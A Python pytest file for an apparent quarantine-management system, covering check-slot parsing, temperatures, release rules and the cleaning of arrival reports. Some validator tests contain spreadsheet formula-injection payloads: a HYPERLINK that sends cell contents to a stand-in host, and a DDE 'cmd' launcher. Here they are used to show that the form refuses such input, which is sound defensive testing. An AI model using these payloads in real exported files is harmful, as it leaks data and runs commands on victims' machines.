import datetime as dt
from decimal import Decimal

import pytest

from conftest import idno
from gridguard.control import rules
from gridguard.control.rules import Slot
from gridguard.control.tests.conftest import local, utc
from gridguard.core.errors import ApplicationError

TWICE = "06:00-12:00,12:00-20:00"
GAPPED = "06:00-12:00,18:00-24:00"


# --- check slots ----------------------------------------------------------------------------


def test_parse_slots_reads_minutes_and_labels():
    slots = rules.parse_slots(" 06:00-12:00 , 18:30-24:00 ")
    assert slots == [Slot(0, 360, 720), Slot(1, 1110, 1440)]
    assert [s.label for s in slots] == ["06:00-12:00", "18:30-24:00"]
    assert rules.parse_slots("") == []


@pytest.mark.parametrize("text", ["6:00-12:00", "06:00~12:00", "06:00-12:60", "25:00-26:00", "早上"])
def test_parse_slots_refuses_bad_format(text):
    with pytest.raises(ApplicationError) as err:
        rules.parse_slots(text)
    assert err.value.code == "bad_slot" and err.value.field == "check_slots"
    assert "格式" in err.value.message and text.strip() in err.value.message


@pytest.mark.parametrize(
    "text, bad",
    [
        ("06:00-12:00,11:00-20:00", "11:00-20:00"),  # overlaps the first
        ("12:00-20:00,06:00-12:00", "06:00-12:00"),  # out of order
        ("12:00-12:00", "12:00-12:00"),  # empty
        ("18:00-24:30", "18:00-24:30"),  # past midnight
        ("24:00-06:00", "24:00-06:00"),  # starts at the next midnight
        ("06:00-12:00,20:00-07:00", "20:00-07:00"),  # runs into the next day's first slot
        ("20:00-08:00,08:00-12:00", "08:00-12:00"),  # a slot after the one that crosses midnight
    ],
)
def test_parse_slots_refuses_overlapping_or_backwards(text, bad):
    with pytest.raises(ApplicationError) as err:
        rules.parse_slots(text)
    assert err.value.code == "bad_slot" and err.value.field == "check_slots"
    assert "不重叠" in err.value.message and bad in err.value.message


def test_a_slot_may_cross_midnight():
    slots = rules.parse_slots("08:00-20:00,20:00-08:00")
    assert slots == [Slot(0, 480, 1200), Slot(1, 1200, 1920)]
    assert [s.label for s in slots] == ["08:00-20:00", "20:00-08:00"]
    assert slots[1].crosses_midnight and not slots[0].crosses_midnight
    assert rules.parse_slots("22:00-00:00") == [Slot(0, 1320, 1440)]  # ends at midnight
    night = rules.parse_slots("20:00-08:00")[0]
    assert night.starts_at(dt.date(2026, 3, 5)) == local(2026, 3, 5, 20)
    assert night.ends_at(dt.date(2026, 3, 5)) == local(2026, 3, 6, 8)


def test_a_check_after_midnight_counts_for_the_slot_that_began_the_evening_before():
    slots = rules.parse_slots("08:00-20:00,20:00-08:00")
    assert rules.slot_of(local(2026, 3, 5, 21), slots) == (dt.date(2026, 3, 5), 1)
    assert rules.slot_of(local(2026, 3, 6, 3), slots) == (dt.date(2026, 3, 5), 1)
    assert rules.slot_of(local(2026, 3, 6, 7, 59), slots) == (dt.date(2026, 3, 5), 1)
    assert rules.slot_of(local(2026, 3, 6, 8), slots) == (dt.date(2026, 3, 6), 0)
    gapped = rules.parse_slots("09:00-12:00,20:00-06:00")
    assert rules.slot_of(local(2026, 3, 6, 5), gapped) == (dt.date(2026, 3, 5), 1)
    assert rules.slot_of(local(2026, 3, 6, 7), gapped) == (dt.date(2026, 3, 6), 0)  # between: the next


def test_a_slot_across_midnight_ends_the_next_morning():
    slots = rules.parse_slots("08:00-20:00,20:00-08:00")
    night = (dt.date(2026, 3, 5), slots[1])
    assert night not in rules.ended_slots(local(2026, 3, 6, 7, 59), slots)
    assert night in rules.ended_slots(local(2026, 3, 6, 8), slots)
    assert (dt.date(2026, 3, 6), slots[1]) not in rules.ended_slots(local(2026, 3, 6, 23), slots)


def test_open_slots_of_the_day_include_last_nights_until_it_ends():
    slots = rules.parse_slots("08:00-20:00,20:00-08:00")
    at_three = rules.day_slots(local(2026, 3, 6, 3), slots)
    assert at_three == [
        (dt.date(2026, 3, 5), slots[1]),
        (dt.date(2026, 3, 6), slots[0]),
        (dt.date(2026, 3, 6), slots[1]),
    ]
    assert rules.day_slots(local(2026, 3, 6, 9), slots) == [
        (dt.date(2026, 3, 6), slots[0]),
        (dt.date(2026, 3, 6), slots[1]),
    ]
    assert rules.day_slots(local(2026, 3, 6, 9), rules.parse_slots(TWICE)) == [
        (dt.date(2026, 3, 6), s) for s in rules.parse_slots(TWICE)
    ]


def test_adjacent_slots_are_allowed():
    assert [s.index for s in rules.parse_slots(TWICE)] == [0, 1]


def test_slot_of_inside_between_before_and_after():
    slots = rules.parse_slots(GAPPED)
    day = dt.date(2026, 3, 5)
    assert rules.slot_of(local(2026, 3, 5, 7, 30), slots) == (day, 0)  # inside the first
    assert rules.slot_of(local(2026, 3, 5, 11, 59), slots) == (day, 0)
    assert rules.slot_of(local(2026, 3, 5, 12, 0), slots) == (day, 1)  # the first has ended
    assert rules.slot_of(local(2026, 3, 5, 14, 0), slots) == (day, 1)  # between: the next one
    assert rules.slot_of(local(2026, 3, 5, 5, 0), slots) == (day, 0)  # before the first
    assert rules.slot_of(local(2026, 3, 5, 23, 59), slots) == (day, 1)  # inside the last


def test_slot_of_after_the_last_is_a_late_check_for_the_last():
    slots = rules.parse_slots(TWICE)
    assert rules.slot_of(local(2026, 3, 5, 20, 30), slots) == (dt.date(2026, 3, 5), 1)
    assert rules.slot_of(local(2026, 3, 5, 23, 59), slots) == (dt.date(2026, 3, 5), 1)


def test_slot_of_uses_the_local_date_not_utc():
    slots = rules.parse_slots(TWICE)
    # 23:30 UTC on the 4th is 07:30 on the 5th in Shanghai
    assert rules.slot_of(utc(2026, 3, 4, 23, 30), slots) == (dt.date(2026, 3, 5), 0)


def test_ended_slots_across_midnight_in_shanghai():
    slots = rules.parse_slots(GAPPED)
    evening = (dt.date(2026, 11, 24), slots[1])
    # 16:05 UTC on the 24th is 00:05 on the 25th in Shanghai: the 24th's evening slot has ended
    after = rules.ended_slots(utc(2026, 11, 24, 16, 5), slots)
    assert evening in after
    assert after == [(dt.date(2026, 11, 24), slots[0]), evening]
    # 15:55 UTC is 23:55 on the 24th: it has not
    before = rules.ended_slots(utc(2026, 11, 24, 15, 55), slots)
    assert evening not in before
    assert before == [
        (dt.date(2026, 11, 23), slots[0]),
        (dt.date(2026, 11, 23), slots[1]),
        (dt.date(2026, 11, 24), slots[0]),
    ]


def test_ended_slots_exactly_at_the_end_counts_as_ended():
    slots = rules.parse_slots(GAPPED)
    midnight = utc(2026, 11, 24, 16, 0)  # 00:00 on the 25th in Shanghai
    assert (dt.date(2026, 11, 24), slots[1]) in rules.ended_slots(midnight, slots)
    # days_back=0 looks at the local today only, the 25th, where nothing has ended yet
    assert rules.ended_slots(midnight, slots, days_back=0) == []
    assert rules.ended_slots(utc(2026, 11, 25, 4, 0), slots, days_back=0) == [
        (dt.date(2026, 11, 25), slots[0])
    ]


def test_slot_instants_are_in_local_time():
    slot = rules.parse_slots(GAPPED)[1]
    assert slot.starts_at(dt.date(2026, 11, 24)) == utc(2026, 11, 24, 10, 0)
    assert slot.ends_at(dt.date(2026, 11, 24)) == utc(2026, 11, 24, 16, 0)
    assert rules.local_date(utc(2026, 11, 24, 16, 0)) == dt.date(2026, 11, 25)


# --- stages and tests -----------------------------------------------------------------------


def test_stage_end_counts_the_start_day():
    assert rules.stage_end(dt.date(2026, 3, 1), 14) == dt.date(2026, 3, 14)
    assert rules.stage_end(dt.date(2026, 3, 1), 1) == dt.date(2026, 3, 1)
    assert rules.stage_end(dt.date(2026, 2, 25), 7) == dt.date(2026, 3, 3)
    assert rules.day_no(dt.date(2026, 3, 1), dt.date(2026, 3, 1)) == 1
    assert rules.day_no(dt.date(2026, 3, 1), dt.date(2026, 3, 14)) == 14


def test_test_dates():
    start = dt.date(2026, 3, 1)
    assert rules.test_dates(start, 7, [1, 2, 3, 5, 7]) == [
        (1, dt.date(2026, 3, 1)),
        (2, dt.date(2026, 3, 2)),
        (3, dt.date(2026, 3, 3)),
        (5, dt.date(2026, 3, 5)),
        (7, dt.date(2026, 3, 7)),
    ]


def test_test_day_zero_or_past_the_end_means_the_last_day():
    start = dt.date(2026, 3, 1)
    assert rules.test_dates(start, 14, [0]) == [(14, dt.date(2026, 3, 14))]
    assert rules.test_dates(start, 14, [1, 20]) == [(1, start), (14, dt.date(2026, 3, 14))]
    # the same day named twice is one test; strings from JSON are read as numbers
    assert rules.test_dates(start, 7, ["7", 0, 9]) == [(7, dt.date(2026, 3, 7))]
    assert rules.test_dates(start, 7, []) == []


# --- temperatures ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, expected",
    [
        (36.5, "36.5"),
        ("36.5", "36.5"),
        ("37.3℃", "37.3"),
        (" 38 °C", "38.0"),
        ("36.55", "36.6"),
        (34, "34.0"),
    ],
)
def test_clean_temperature_accepts(value, expected):
    assert rules.clean_temperature(value) == Decimal(expected)


@pytest.mark.parametrize("value", [45, "33.9", "43.1"])
def test_clean_temperature_refuses_out_of_range(value):
    with pytest.raises(ApplicationError) as err:
        rules.clean_temperature(value)
    assert err.value.code == "bad_temperature" and err.value.field == "temperature"
    assert "请复测" in err.value.message


@pytest.mark.parametrize("value", ["abc", "", None, "nan", "NaN", "inf", "-Infinity", "sNaN"])
def test_clean_temperature_refuses_what_is_not_a_number(value):
    with pytest.raises(ApplicationError) as err:
        rules.clean_temperature(value)
    assert err.value.code == "bad_temperature" and err.value.field == "temperature"


def test_fever_threshold():
    assert rules.is_fever(Decimal("37.3")) and rules.is_fever(Decimal("38.1"))
    assert not rules.is_fever(Decimal("37.2"))


def test_team_missing():
    labels = {"town_cadre": "镇干部", "village_cadre": "村（社区）干部", "medic": "医务人员"}
    needs = {"town_cadre": 1, "village_cadre": 2, "medic": 1}
    assert rules.team_missing({"town_cadre": 1, "village_cadre": 1, "medic": 1}, needs, labels) == [
        "村（社区）干部 还差 1 人"
    ]
    assert rules.team_missing({}, needs, labels) == [
        "镇干部 还差 1 人",
        "村（社区）干部 还差 2 人",
        "医务人员 还差 1 人",
    ]
    assert rules.team_missing({"town_cadre": 2, "village_cadre": 3, "medic": 1}, needs, labels) == []


# --- release --------------------------------------------------------------------------------


def test_release_blockers_before_the_end_and_with_tests_and_alerts():
    end = dt.date(2026, 3, 7)
    tests = [
        (1, dt.date(2026, 3, 1), "negative", "阴性"),
        (3, dt.date(2026, 3, 3), "cancelled", "已取消"),
        (5, dt.date(2026, 3, 5), "sampled", "已采样"),
        (7, dt.date(2026, 3, 7), "pending", "待检测"),
    ]
    reasons = rules.release_blockers(
        today=end, stage_end=end, tests=tests, open_alerts=["发热 2026-03-06 38.1℃"]
    )
    assert reasons == [
        "管控期未满：2026-03-07 为最后一天，当天最后一次核酸检测（第 7 天）阴性后方可解除",
        "第 5 天（2026-03-05）核酸检测：已采样",
        "第 7 天（2026-03-07）核酸检测：待检测",
        "未处置的预警：发热 2026-03-06 38.1℃",
    ]


def test_release_blockers_empty_when_done():
    end = dt.date(2026, 3, 7)
    tests = [(1, dt.date(2026, 3, 1), "negative", "阴性"), (7, end, "negative", "阴性")]
    assert rules.release_blockers(today=dt.date(2026, 3, 8), stage_end=end, tests=tests, open_alerts=[]) == []


def test_the_last_day_counts_once_its_last_scheduled_test_is_negative():
    end = dt.date(2026, 3, 10)
    tests = [(3, end, "negative", "阴性")]
    assert rules.release_blockers(today=end, stage_end=end, tests=tests, open_alerts=[]) == []
    # the day before the last is still inside the period, whatever the tests say
    assert rules.release_blockers(today=dt.date(2026, 3, 9), stage_end=end, tests=tests, open_alerts=[]) == [
        "管控期未满：2026-03-10 为最后一天，当天最后一次核酸检测（第 3 天）阴性后方可解除"
    ]
    # on the last day, a last test not yet negative keeps the period open
    pending = [(3, end, "sampled", "已采样")]
    assert rules.release_blockers(today=end, stage_end=end, tests=pending, open_alerts=[]) == [
        "管控期未满：2026-03-10 为最后一天，当天最后一次核酸检测（第 3 天）阴性后方可解除",
        "第 3 天（2026-03-10）核酸检测：已采样",
    ]


def test_a_stage_without_tests_ends_the_day_after_its_last_day():
    end = dt.date(2026, 3, 7)
    assert rules.release_blockers(today=end, stage_end=end, tests=[], open_alerts=[]) == [
        "管控期未满：2026-03-07 为最后一天，2026-03-08 起方可解除"
    ]
    cancelled = [(7, end, "cancelled", "已取消")]
    assert rules.release_blockers(today=end, stage_end=end, tests=cancelled, open_alerts=[]) == [
        "管控期未满：2026-03-07 为最后一天，2026-03-08 起方可解除"
    ]
    assert rules.release_blockers(today=dt.date(2026, 3, 8), stage_end=end, tests=[], open_alerts=[]) == []


def test_a_positive_test_blocks_release():
    end = dt.date(2026, 3, 7)
    reasons = rules.release_blockers(
        today=dt.date(2026, 3, 9), stage_end=end, tests=[(7, end, "positive", "阳性")], open_alerts=[]
    )
    assert reasons == ["第 7 天（2026-03-07）核酸检测：阳性"]


# --- arrival reports ------------------------------------------------------------------------

TODAY = dt.date(2026, 3, 2)


def _arrival(**kw):
    data = {
        "name": " 李四 ",
        "id_number": idno(1990, 5),
        "phone": "+86 139-0000-1111",
        "from_place": "上海市浦东新区",
        "arrival_date": "2026-03-01",
        "address": "1号楼 502",
        "transport": "高铁 G1234",
    }
    data.update(kw)
    return data


def test_clean_arrival_normalises():
    clean = rules.clean_arrival(_arrival(id_number=idno(1990, 5).lower()), today=TODAY)
    assert clean["name"] == "李四"
    assert clean["id_number"] == idno(1990, 5)
    assert clean["phone"] == "13900001111"
    assert clean["arrival_date"] == dt.date(2026, 3, 1)
    assert clean["transport"] == "高铁 G1234" and clean["note"] == ""


def test_clean_arrival_wrong_checksum():
    good = idno(1990, 5)
    bad = good[:17] + ("0" if good[17] != "0" else "1")
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(id_number=bad), today=TODAY)
    assert err.value.code == "id_checksum" and err.value.field == "id_number"


def test_clean_arrival_takes_passports_without_the_identity_checksum():
    clean = rules.clean_arrival(_arrival(id_type="passport", id_number=" e1234 5678 "), today=TODAY)
    assert (clean["id_type"], clean["id_number"]) == ("passport", "E12345678")
    assert rules.clean_arrival(_arrival(), today=TODAY)["id_type"] == "id"  # a resident card by default
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(id_type="passport", id_number="E1#"), today=TODAY)
    assert err.value.code == "document_invalid" and err.value.field == "id_number"
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(id_type="visa"), today=TODAY)
    assert err.value.field == "id_type"


def test_clean_arrival_names_every_wrong_field_at_once():
    good = idno(1990, 5)
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(
            _arrival(
                name="",
                id_number=good[:17] + ("0" if good[17] != "0" else "1"),
                phone="12345",
                arrival_date="2026-03-03",
                address="",
            ),
            today=TODAY,
        )
    errors = {e.field: e.code for e in err.value.errors}  # type: ignore[attr-defined]
    assert errors == {
        "name": "name_required",
        "id_number": "id_checksum",
        "phone": "phone_invalid",
        "arrival_date": "arrival_future",
        "address": "address_required",
    }


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_name_never_starts_like_a_formula(start):
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(name=f'{start}HYPERLINK("http://x.example/"&B2,"点击核对")'), today=TODAY)
    assert err.value.code == "formula_like" and err.value.field == "name"
    assert "姓名" in err.value.message and start in err.value.message


@pytest.mark.parametrize("field", ["from_place", "address", "transport", "note"])
def test_free_text_of_the_public_form_never_starts_like_a_formula(field):
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(**{field: " =1+1"}), today=TODAY)
    assert err.value.code == "formula_like" and err.value.field == field
    # a sign inside the text is fine
    assert rules.clean_arrival(_arrival(**{field: "1号楼 3-502"}), today=TODAY)[field] == "1号楼 3-502"


def test_a_phone_with_the_country_code_is_not_a_formula():
    assert rules.clean_arrival(_arrival(phone="+8613900001111"), today=TODAY)["phone"] == "13900001111"


def test_clean_check_and_need_name_every_wrong_field():
    with pytest.raises(ApplicationError) as err:
        rules.clean_check("abc", ["99"])
    assert {e.field for e in err.value.errors} == {"temperature", "symptoms"}  # type: ignore[attr-defined]
    assert rules.clean_check("36.6", ["1", 2]) == (Decimal("36.6"), 3)
    with pytest.raises(ApplicationError) as err:
        rules.clean_need("unknown", "")
    assert {e.field for e in err.value.errors} == {"kind", "detail"}  # type: ignore[attr-defined]
    with pytest.raises(ApplicationError) as err:
        rules.clean_need("shopping", "=cmd|' /C calc'!A0")
    assert err.value.code == "formula_like" and err.value.field == "detail"
    assert rules.clean_need("shopping", " 大米 ") == ("shopping", "大米")


@pytest.mark.parametrize(
    "text, compounds, parts",
    [
        ("建设小区3栋1单元1201", ["建设小区"], ("建设小区", "3", "1", "1201")),
        ("建设小区 3 栋 1 单元 1201 室", ["建设小区", "建设"], ("建设小区", "3", "1", "1201")),
        ("1号楼 502", [], ("", "1", "", "502")),
        ("幸福小区3-2-301", ["幸福小区"], ("幸福小区", "3", "2", "301")),
        ("幸福小区12-301", ["幸福小区"], ("幸福小区", "12", "", "301")),
        ("建设小区三栋二单元502", ["建设小区"], ("建设小区", "3", "2", "502")),
        ("城关镇东门外", [], ("", "", "", "")),
        ("建设小区", ["建设小区"], ("建设小区", "", "", "")),
    ],
)
def test_parse_address_reads_compound_building_unit_and_room(text, compounds, parts):
    assert tuple(rules.parse_address(text, compounds)) == parts


def test_clean_arrival_in_the_future():
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(arrival_date="2026-03-03"), today=TODAY)
    assert err.value.code == "arrival_future" and err.value.field == "arrival_date"
    assert "2026-03-03" in err.value.message
    # today itself is fine
    assert rules.clean_arrival(_arrival(arrival_date="2026-03-02"), today=TODAY)["arrival_date"] == TODAY


def test_clean_arrival_too_old():
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(arrival_date="2025-12-01"), today=TODAY)
    assert err.value.code == "arrival_too_old" and err.value.field == "arrival_date"


@pytest.mark.parametrize(
    "field, code",
    [
        ("name", "name_required"),
        ("id_number", "id_required"),
        ("phone", "phone_required"),
        ("from_place", "from_required"),
        ("arrival_date", "arrival_required"),
        ("address", "address_required"),
    ],
)
def test_clean_arrival_missing_field(field, code):
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(**{field: "  "}), today=TODAY)
    assert err.value.code == code and err.value.field == field


def test_clean_arrival_bad_phone():
    with pytest.raises(ApplicationError) as err:
        rules.clean_arrival(_arrival(phone="12345"), today=TODAY)
    assert err.value.field == "phone"


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("密接", "close_contact"),
        ("密切接触者", "close_contact"),
        ("次密切接触者", "secondary_contact"),
        ("次密接", "secondary_contact"),
        ("高风险区来返人员", "high_risk_arrival"),
        ("中风险地区来返", "medium_risk_arrival"),
        ("境外入境人员", "inbound"),
        ("红码", "code"),
        ("初筛阳性", "screen_positive"),
        ("close_contact", "close_contact"),
        ("", None),
    ],
)
def test_list_categories_are_read_from_the_words_lists_use(cell, code):
    assert rules.parse_category(cell) == code


def test_unknown_list_words_are_refused_naming_the_choices():
    with pytest.raises(ApplicationError) as exc:
        rules.parse_category("外星来客")
    assert exc.value.field == "category" and "密接" in exc.value.message
    with pytest.raises(ApplicationError):
        rules.parse_measure("隔离一下")
    assert rules.parse_measure("居家医学观察") == "home"
    assert rules.parse_measure("集中隔离医学观察") == "central"
    assert rules.parse_measure(" 居家健康监测 ") == "home_monitoring"
